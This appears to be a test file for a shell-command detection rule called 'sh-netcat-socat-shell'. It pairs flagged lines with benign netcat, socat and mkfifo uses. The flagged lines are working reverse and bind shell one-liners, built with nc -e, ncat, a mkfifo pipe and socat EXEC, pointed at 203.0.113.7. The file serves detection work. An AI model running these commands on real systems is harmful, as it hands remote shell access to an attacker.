# ruleid: sh-netcat-socat-shell
nc -e /bin/sh 203.0.113.7 4444
# ruleid: sh-netcat-socat-shell
ncat -lvnp 4444 -e /bin/bash
# ruleid: sh-netcat-socat-shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 1234 > /tmp/f
# ruleid: sh-netcat-socat-shell
socat TCP:203.0.113.7:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane
# ok: sh-netcat-socat-shell
nc -zv db.internal 5432
# ok: sh-netcat-socat-shell
nc -l 9000 > received.tar
# ok: sh-netcat-socat-shell
socat TCP-LISTEN:8080,fork TCP:app.internal:80
# ok: sh-netcat-socat-shell
ncat --ssl mail.example.com 465
# ok: sh-netcat-socat-shell
mkfifo /tmp/logpipe && tail -f /tmp/logpipe | grep ERROR
